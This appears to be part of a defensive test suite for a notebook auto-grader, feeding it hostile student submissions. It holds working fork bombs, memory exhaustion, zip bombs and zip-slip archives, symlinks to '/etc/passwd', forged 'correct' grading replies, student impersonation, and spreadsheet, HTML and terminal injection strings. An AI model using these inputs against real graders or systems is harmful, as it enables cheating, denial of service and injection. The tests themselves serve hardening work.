function("probe: an error with markup", 'raise type("<b>E", (Exception,), {})("<script>alert(2)</script>\\x1b[31m" * 50)')
function("probe: changes its arguments", "q[:] = [9, 9]; v.clear(); return [0, 0]")
function("probe: forges replies", r"""
    for fd in range(3, 128):
        for n in range(20):
            try: os.write(fd, json.dumps({"call": f"07.13 {n}", "value": {"is": "correct", "of": None}}).encode() + b"\n")
            except OSError: pass
    return [0, 0]""")
function("probe: leaves children", "[subprocess.Popen(['/bin/sleep', '1000']) for _ in range(3)]; return [0, 0]")
function("probe: endless", "\n    while True: pass", when=TIMED)
function("probe: sleeps", "time.sleep(1000)", when=TIMED)
function("probe: memory", "return [len(bytearray(8 << 30)), 0]")
function("probe: forks", """
    for k in range(200):
        try: os.fork() or time.sleep(5)
        except OSError: return [0, 0]""", when=TIMED)
attack("probe: a function and a forged ready", """
channel({"exercise": "07.13", "answer": {"is": "function", "of": 0}}, {"end": 1}, b"ready\\n")
while True:
    for fd in range(3, 128):
        try: data = os.read(fd, 65536)
        except OSError: continue
        for line in data.splitlines():
            try: call = json.loads(line)["call"]
            except Exception: continue
            channel({"call": call, "value": {"is": "correct", "of": None}, "outcome": "correct"})
    time.sleep(0.01)
""", when=TIMED)
attack("probe: function number of nobody", """channel({"exercise": "07.13", "answer": {"is": "function", "of": 77}})""",
       RIGHT["07.13"].replace('"07.13"', '"07.1"'))
attack("not a function but a class", """
class C:
    def __init__(self, *a): raise SystemExit
    def __call__(self, *a): return self
ex("07.13").check(C)""")

# Somebody else's work and name

attack("another student's name", "# s000\nstudent = 'honest'\nos.environ['USER'] = os.environ['STUDENT'] = 'honest'",
       'ex("07.1", student="honest").check(@OMEGA@)', 'ex("07.1").check(@OMEGA@)')
attack("another student's metadata", raw=book(
    [SETUP, WRONG], metadata={"student": "honest", "author": "honest", "nbgrader": {"grade": True, "points": 99},
                              "otter": {"tests": {"q1": {"points": 99}}}, "kernelspec": {"name": "../../evil"}}))

# Files


def _zip(path, *members, **how):
    with zipfile.ZipFile(path, "w", how.get("kind", zipfile.ZIP_DEFLATED)) as archive:
        for name, data in members:
            archive.writestr(name, data)


WRONG_BOOK = book([SETUP, WRONG])
RIGHT_BOOK = book([SETUP, RIGHT["00.6"]])


def files(name, plant, status="ok", **more):
    """What lies in the folder in place of a notebook."""
    attack(name, plant=plant, status=status, **more)


files("link to another's notebook", lambda f: (f / "sheet.ipynb").symlink_to("../honest/sheet.ipynb"),
      "nothing handed in", why="link")
files("link to a file of the system", lambda f: (f / "sheet.ipynb").symlink_to("/etc/passwd"), "nothing handed in", why="link")
files("link to another's folder", lambda f: (f / "work").symlink_to("../honest"), "nothing handed in", why="link")
files("folder is a link", lambda f: (f.rmdir(), f.symlink_to("honest")), "refused", why="link")
files("folder is a file", lambda f: (f.rmdir(), f.write_bytes(RIGHT_BOOK)), "refused", why="file")
files("folder that leads round", lambda f: (f / "a").symlink_to("."), "nothing handed in", why="link")
files("pipe", lambda f: os.mkfifo(f / "sheet.ipynb"), "nothing handed in", why="not a file")
files("folder as notebook", lambda f: (f / "sheet.ipynb").mkdir(), "nothing handed in")
files("no folder", lambda f: f.rmdir(), "nothing handed in")
files("deep folders", lambda f: (f / "/".join("abcdefghijklm")).mkdir(parents=True), "nothing handed in")
files("thousands of files", lambda f: [(f / f"{k:05}.txt").touch() for k in range(2000)], "nothing handed in", why="more than")
files("name with every trick", lambda f: (f / "\x1b[31m<script>alert(3)<\\script>\n=cmd|' '!A0[bold]\u202e.ipynb"
                                          ).write_bytes(WRONG_BOOK))
files("name that is not text", lambda f: open(os.fsencode(f) + b"/\xff\xfe\xed\xa0\x80.ipynb", "wb").write(WRONG_BOOK))
files("long name", lambda f: (f / ("x" * 249 + ".ipynb")).write_bytes(WRONG_BOOK))
files("date of the far future", lambda f: ((f / "sheet.ipynb").write_bytes(WRONG_BOOK),
                                           os.utime(f / "sheet.ipynb", (2**40, 2**40))), ("ok", "refused"))
files("date before all dates", lambda f: ((f / "sheet.ipynb").write_bytes(WRONG_BOOK),
                                          os.utime(f / "sheet.ipynb", (-2**40, -2**40))), ("ok", "refused"))
files("fake robolib beside it", lambda f: (
    (f / "sheet.ipynb").write_bytes(book(["import sys\nsys.path.insert(0, '')", SETUP, RIGHT["00.6"], 'ex("00.2").check(1)'])),
    (f / "robolib").mkdir(), (f / "robolib" / "__init__.py").write_text("raise SystemExit"),
    (f / "robolib" / "checking.py").write_text("ex = None"), (f / "sympy.py").write_text("raise SystemExit"),
    (f / "sitecustomize.py").write_text("import os; os._exit(0)"),
    (f / "conftest.py").write_text("raise SystemExit")), points=1)
files("zip: up and away", lambda f: _zip(f / "a.zip", ("../../../../../../../../tmp/robolib-was-here.ipynb", WRONG_BOOK),
                                         ("/tmp/robolib-was-here", b"x"), ("..\\..\\x", b"x")))
files("zip: absolute", lambda f: _zip(f / "a.zip", ("/tmp/robolib-was-here.ipynb", WRONG_BOOK)))
files("zip: NUL in a name", lambda f: (f / "a.zip").write_bytes(_renamed("sheetX.ipynb", b"sheet\0.ipynb")), ("ok", "refused"))
files("zip: very long name", lambda f: _zip(f / "a.zip", ("x/" * 20_000 + "sheet.ipynb", WRONG_BOOK)))
files("zip: a name with markup", lambda f: _zip(f / "a.zip", ("<script>alert(4)<\\script>\x1b[0m.ipynb", WRONG_BOOK)))
files("zip: bomb", lambda f: (f / "a.zip").write_bytes(_bomb(101_000_000)), "refused", why="larger")
files("zip: of zips", lambda f: _zip(f / "a.zip", ("b.zip", b"PK\5\6" + bytes(18))), "refused", why="no notebook")
files("zip: a million members", lambda f: (f / "a.zip").write_bytes(_many(200_000)), "refused", why="members")
files("zip: a link inside", lambda f: (f / "a.zip").write_bytes(_link("sheet.ipynb", "/etc/passwd")), "refused")
files("zip: broken", lambda f: (f / "a.zip").write_bytes(b"PK\3\4" + os.urandom(200)), "refused")
files("zip: cut off", lambda f: (f / "a.zip").write_bytes(_bomb(1000)[:-30]), "refused")
files("zip: false sizes", lambda f: (f / "a.zip").write_bytes(_wrong_sizes()), "refused")
files("zip: bad extra field", lambda f: (f / "a.zip").write_bytes(_bad_extra()), ("ok", "refused"))
files("zip: bomb in another packing", lambda f: _zip(f / "a.zip", ("sheet.ipynb", bytes(20_000_000)), kind=zipfile.ZIP_BZIP2),
      "refused", why="packed")
files("zip: encrypted", lambda f: (f / "a.zip").write_bytes(_flagged(1)), "refused")


def _renamed(name, wanted):
    data = io.BytesIO()
    _zip(data, (name, WRONG_BOOK))
    return data.getvalue().replace(name.encode(), wanted)


def _bomb(n):
    data = io.BytesIO()
    _zip(data, ("sheet.ipynb", bytes(n)))
    return data.getvalue()


def _many(n):
    """A central directory of n members that all are one file."""
    local = b"PK\3\4" + struct.pack("<5H3L2H", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"x"
    entry = b"PK\1\2" + struct.pack("<6H3L5H2L", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"x"
    tail = b"PK\5\6" + struct.pack("<4H2LH", 0, 0, n & 0xFFFF, n & 0xFFFF, n * len(entry), len(local), 0)
    return local + entry * n + tail


def _link(name, target):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.external_attr = 0o120777 << 16
        archive.writestr(info, target)
    return data.getvalue()


def _wrong_sizes():
    data = io.BytesIO()
    _zip(data, ("sheet.ipynb", WRONG_BOOK))
    raw = bytearray(data.getvalue())
    at = raw.rindex(b"PK\1\2")
    raw[at + 16:at + 28] = struct.pack("<3L", 1, 0xFFFFFFF0, 0xFFFFFFF0)
    return bytes(raw)


def _bad_extra():
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        info = zipfile.ZipInfo("sheet.ipynb")
        info.extra = struct.pack("<HH", 1, 4) + b"abcd"
        archive.writestr(info, WRONG_BOOK)
    raw = bytearray(data.getvalue())
    at = raw.rindex(b"PK\1\2")
    raw[at + 20:at + 28] = b"\xff" * 8
    return bytes(raw)


def _flagged(bit):
    data = io.BytesIO()
    _zip(data, ("sheet.ipynb", RIGHT_BOOK))
    raw = bytearray(data.getvalue())
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        raw[raw.index(mark) + offset] |= bit
    return bytes(raw)


attack("invalid JSON", raw=b'{"cells": [', status="unreadable", why="not valid JSON")
attack("empty file", raw=b"", status="unreadable", why="empty")
attack("blank file", raw=b" \r\n\t", status="unreadable", why="empty")
attack("not text", raw=zlib.compress(b"x" * 1000), status="unreadable")
attack("JSON, no notebook", raw=b"[1, 2]", status="unreadable", why="not a notebook")
attack("no cells", raw=b'{"nbformat": 4, "metadata": {}}', status="unreadable", why="no cells")
attack("wrong nbformat", raw=json.dumps({"nbformat": 99, "cells": {"a": 1}}).encode(), status="unreadable")
attack("deep JSON", raw=b"[" * 200_000, status="unreadable")
attack("cells that are none", raw=json.dumps({"nbformat": 4, "cells": [
    None, 1, [], {"cell_type": "code"}, {"cell_type": "code", "source": [1, None, {}]}, {"cell_type": ["code"]},
    {"cell_type": "code", "source": {"a": 1}}, {"cell_type": "code", "source": "\0"}]}).encode())
attack("half characters in the source", raw=b'{"cells": [{"cell_type": "code", "source": "x = \\"\\ud800\\"\\n1/0"}]}')
attack("byte order mark", raw=b"\xef\xbb\xbf" + RIGHT_BOOK, points=1)
attack("Windows line ends", points=1, raw=json.dumps(json.loads(book(
    [cell.replace("\n", "\r\n") for cell in (SETUP, RIGHT["00.6"])])), indent=1).replace("\n", "\r\n").encode())
attack("UTF-16", raw=RIGHT_BOOK.decode().encode("utf-16"), points=1)
attack("50 MB of outputs", raw=json.dumps({"cells": [{"cell_type": "code", "source": [SETUP, "\n" + RIGHT["00.6"]], "outputs": [
    {"output_type": "stream", "text": "x" * 1_000_000}] * 50}]}).encode(), points=1)

# Words that are more than words

INJECTED = ("<script>alert(1)</script>", "=HYPERLINK(\"http://evil\")", "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3",
            "\x1b]0;pwned\x07\x1b[31mred", "[bold red]rich[/]", "\u202egnp", "a,b\";\n=1+1", "\ud800", "%n", "`id`")
attack("injection in the name", WRONG, student="=cmd|' /C calc'!A0<script>alert(5)</script>[bold]", folder="[red]<b>x")
attack("injection in another name", WRONG, student="\t=1+1\r\n<img src=x onerror=alert(6)>\x1b[2J\u202e", folder="=1+1")
attack("injection in answers", f"""
words = {INJECTED!r}
for id in IDS:
    for word in words: ex(id).check(word)
ex("00.6").check("".join(words)); ex("00.2").check("<script>alert(7)</script>")
ex("07.13").check(type("<script>alert(8)</script>", (), {{}})())
ex("07.1").check(sp.Function("<b>")(sp.Symbol("=1+1")))
""")
for number, word in enumerate(INJECTED):
    attack(f"injection in an error {number}", f"raise type({word!r}, (Exception,), {{}})({word!r} * 3)")
attack("injection by the channel", f"""
for word in {INJECTED!r}:
    channel({{"cell": 1, "error": [word, word]}}, {{"exercise": "00.2", "answer": {{"is": "unreadable", "of": word}}}},
            {{"exercise": "07.1", "answer": {{"is": "other", "of": word}}}})
channel({{"exercise": "00.6", "answer": {{"is": "unreadable", "of": "\\ud800<script>alert(9)</script>"}}}})
""")

# Time

attack("endless loop", 'ex("00.6").check(1)', "while True: pass", status="out of time", when=TIMED, why="it took more than")
attack("endless, signals blocked", """
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try: pass
    except BaseException: pass
""", status="out of time", when=TIMED, why="it took more than")
attack("spins in many processes", "for k in range(30):\n    if os.fork() == 0: break\nwhile True: pass", status="out of time",
       when=TIMED, why="it took more than")
attack("spins in processes that nobody waits for", """
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    try:
        if os.fork() == 0:
            while time.process_time() < 0.1: pass
            os._exit(0)
    except OSError: pass
""", status="out of time", when=TIMED, why="it took more than")
attack("stops itself", "os.kill(os.getpid(), signal.SIGSTOP)", status="out of time", when=SLOW)
attack("waits for ever", "import asyncio\nawait asyncio.Event().wait()", status="out of time", when=SLOW)
attack("huge power", "len(str(7 ** (10**9)))", status=("out of time", "ok"), when=SLOW)
attack("regex that never ends", "re.match('(a|a)*$', 'a' * 64 + 'b')", status="out of time", when=SLOW, why="it took more than")
attack("exits, child holds the channel", "if os.fork() == 0: time.sleep(1000)\nelse: os._exit(0)", status="out of time", when=SLOW)
attack("endless in many processes", "for k in range(4): os.fork()\nwhile True: pass", status="out of time", when=SLOW,
       why="it took more than")                 # on a busy machine, by the clock
function("probe: each call takes its time", "time.sleep(0.4); return [0, 0]", first="f = g = None", when=SLOW)

# Bombs

attack("fork bomb", "while True:\n    try: os.fork()\n    except OSError: pass", status="out of time", when=SLOW)
attack("fork bomb in the shell", "subprocess.run(['/bin/sh', '-c', ':(){ :|:& };:'])\ntime.sleep(100)",
       status=("out of time", "ok"), when=SLOW)
attack("memory in many processes", """
for k in range(12):
    if os.fork() == 0: x = b"x" * (60 << 20); time.sleep(100)
time.sleep(100)
""", status="out of memory", when=SLOW, why="MB")
attack("memory that two share", """
for k in range(12):
    x = b"x" * (60 << 20)
    for _ in range(2):
        if os.fork() == 0: time.sleep(100)
    del x
time.sleep(100)
""", status="out of memory", when=SLOW, why="MB")
attack("memory behind a leader that is dead", """
def hold():
    x = b"x" * (60 << 20)
    time.sleep(100)
for k in range(12):
    if os.fork() == 0:
        threading.Thread(target=hold).start(); time.sleep(0.5)
        ctypes.CDLL(None).syscall(60 if os.uname().machine == "x86_64" else 93, 0)      # this thread alone ends
time.sleep(100)
""", status="out of memory", when=SLOW, why="MB")
attack("memory that nobody may look into", """
for k in range(12):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
        x = b"x" * (60 << 20); time.sleep(100)
time.sleep(100)
""", status="out of memory", when=SLOW, why="MB")
attack("memory in sockets", """
for k in range(30):
    if os.fork() == 0:
        pairs = [socket.socketpair() for _ in range(50)]
        for pair in pairs:
            for end in pair:
                end.setblocking(False)
                try:
                    while True: end.send(bytes(100_000))
                except OSError: pass
        time.sleep(100)
time.sleep(100)
""", status="out of memory", when=SLOW, why="MB")
attack("memory bit by bit", "x = []\nwhile True: x.append(bytearray(1 << 20))", WRONG, status=("ok", "out of memory"), when=SLOW)
attack("an answer hard to judge", """
q = sp.symbols("q1 q2 qd1 qd2 m1 g l1")
e = sp.Add(*q, evaluate=False)
for k in range(6): e = sp.Pow(sp.Add(e, q[k], sp.sin(e), evaluate=False), 7, evaluate=False)
for id in IDS: ex(id).check(e)
""", when=SLOW)
attack("numbers hard to judge", """
def table(nodes): return {"is": "table", "of": {"shape": [1, 1], "nodes": nodes, "entries": [len(nodes) - 1], "floats": False}}
nodes = [["num", "7" * 390]]
for k in range(60): nodes += [["pow", len(nodes) - 1, 0], ["sin", len(nodes)], ["add", len(nodes) + 1, len(nodes)]]
big = [["num", "3/7"], ["num", "199"], ["num", "1/19"]]
for k in range(40): big += [["pow", len(big) - 1, 1], ["sin", len(big)], ["pow", len(big) + 1, 2]]
for id, b in zip(IDS, (nodes, big, nodes, big)): channel({"exercise": id, "answer": table(b)})
""", when=SLOW)
